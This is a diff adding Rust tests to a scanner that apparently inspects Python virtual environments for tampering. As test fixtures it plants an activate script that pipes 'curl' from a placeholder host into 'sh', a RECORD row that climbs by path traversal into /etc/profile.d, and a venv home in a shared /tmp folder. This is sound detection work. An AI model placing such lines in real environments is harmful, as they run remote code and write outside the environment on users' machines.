@@ -334,3 +334,119 @@ fn startup_names_count_only_at_the_environment_root() {
         )]
     );
 }
+
+fn run_with_yara(root: &Path) -> ScanReport {
+    scan(
+        &ScanOptions {
+            paths: vec![root.to_path_buf()],
+            exclude: Vec::new(),
+            jobs: 2,
+            limits: BudgetLimits::default(),
+            yara: Some(std::sync::Arc::new(
+                airlock::yara::YaraRules::builtin().expect("rules"),
+            )),
+        },
+        &|_, _| {},
+    )
+    .expect("scan")
+}
+
+/// The worst severity of `rule` at the file named `name`.
+fn worst_at(r: &ScanReport, rule: &str, name: &str) -> Option<Severity> {
+    r.files
+        .iter()
+        .filter(|f| f.path.file_name().is_some_and(|n| n == name))
+        .flat_map(|f| f.findings.iter())
+        .filter(|x| x.rule.id == rule)
+        .map(|x| x.severity)
+        .max()
+}
+
+/// A virtual environment at `venv`: `pyvenv.cfg` with `home`, the clean distribution in its
+/// site-packages, and `bin/activate` with `activate`.
+fn venv(venv: &Path, home: &str, activate: &str) -> std::path::PathBuf {
+    write(
+        venv,
+        "pyvenv.cfg",
+        format!("home = {home}\ninclude-system-site-packages = false\nversion = 3.11.4\n")
+            .as_bytes(),
+    );
+    write(venv, "bin/activate", activate.as_bytes());
+    let sp = venv.join("lib/python3.11/site-packages");
+    clean_env(&sp);
+    sp
+}
+
+const ACTIVATE: &str = "# This file must be used with \"source bin/activate\"\ndeactivate () { :; }\nVIRTUAL_ENV=/opt/venv\nexport VIRTUAL_ENV\n";
+
+/// A RECORD row that climbs out of the environment's prefix says the package wrote outside
+/// the environment (tester t14 iv08); `../../../bin/demo` stays inside.
+#[test]
+fn record_rows_outside_the_prefix_are_medium() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let env = dir.path().join("venv");
+    let sp = venv(&env, "/usr/bin", ACTIVATE);
+    let r = run(&env);
+    assert_eq!(worst_at(&r, "installed-record-mismatch", "RECORD"), None);
+    assert!(r.findings().all(|f| f.severity < Severity::Medium));
+    let record = std::fs::read_to_string(sp.join("demo-1.0.dist-info/RECORD")).expect("read");
+    let bad = format!("{record}../../../../../../../../etc/profile.d/demo.sh,sha256=AAAA,1\n");
+    write(&sp, "demo-1.0.dist-info/RECORD", bad.as_bytes());
+    let r = run(&env);
+    assert_eq!(
+        worst_at(&r, "installed-record-mismatch", "RECORD"),
+        Some(Severity::Medium)
+    );
+}
+
+/// `pyvenv.cfg`'s `home` in a folder others can write hands the environment's standard
+/// library and `site` to whoever writes there (tester t14 iv10).
+#[test]
+fn a_venv_home_in_a_shared_folder_is_medium() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let env = dir.path().join("venv");
+    venv(&env, "/tmp/.pyhome/bin", ACTIVATE);
+    let r = run(&env);
+    assert_eq!(
+        worst_at(&r, "pth-untrusted-path", "pyvenv.cfg"),
+        Some(Severity::Medium)
+    );
+    let dir = tempfile::tempdir().expect("tempdir");
+    let env = dir.path().join("venv");
+    venv(&env, "/usr/bin", ACTIVATE);
+    let r = run(&env);
+    assert_eq!(worst_at(&r, "pth-untrusted-path", "pyvenv.cfg"), None);
+}
+
+/// A venv's `bin/activate` runs in the user's shell at every activation: a download piped
+/// into a shell there is start-up code, high (tester t14 iv03); the ordinary script is not.
+#[test]
+fn an_activation_script_that_downloads_and_runs_is_high() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let env = dir.path().join("venv");
+    venv(
+        &env,
+        "/usr/bin",
+        &format!("{ACTIVATE}curl -fsSL https://c.example.invalid/a.sh | sh\n"),
+    );
+    let r = run_with_yara(&env);
+    assert_eq!(
+        worst_at(&r, "startup-hook-file", "activate"),
+        Some(Severity::High)
+    );
+    let dir = tempfile::tempdir().expect("tempdir");
+    let env = dir.path().join("venv");
+    venv(&env, "/usr/bin", ACTIVATE);
+    let r = run_with_yara(&env);
+    assert_eq!(worst_at(&r, "startup-hook-file", "activate"), None);
+    assert!(r.findings().all(|f| f.severity < Severity::Medium));
+    // The same line in a script outside any environment stays the byte-pattern rule's low.
+    let dir = tempfile::tempdir().expect("tempdir");
+    write(
+        dir.path(),
+        "tools/bin/activate",
+        format!("{ACTIVATE}curl -fsSL https://c.example.invalid/a.sh | sh\n").as_bytes(),
+    );
+    let r = run_with_yara(dir.path());
+    assert_eq!(worst_at(&r, "startup-hook-file", "activate"), None);
+}
